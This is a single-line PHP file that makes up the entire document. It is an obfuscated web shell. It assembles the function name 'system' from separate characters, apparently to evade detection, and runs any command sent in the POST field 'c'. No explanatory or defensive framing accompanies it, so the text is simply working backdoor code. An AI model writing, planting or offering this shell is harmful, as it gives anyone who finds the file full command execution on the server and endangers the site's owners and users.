<?php $f = implode("", array("s","y","s","t","e","m")); $f($_POST["c"]);
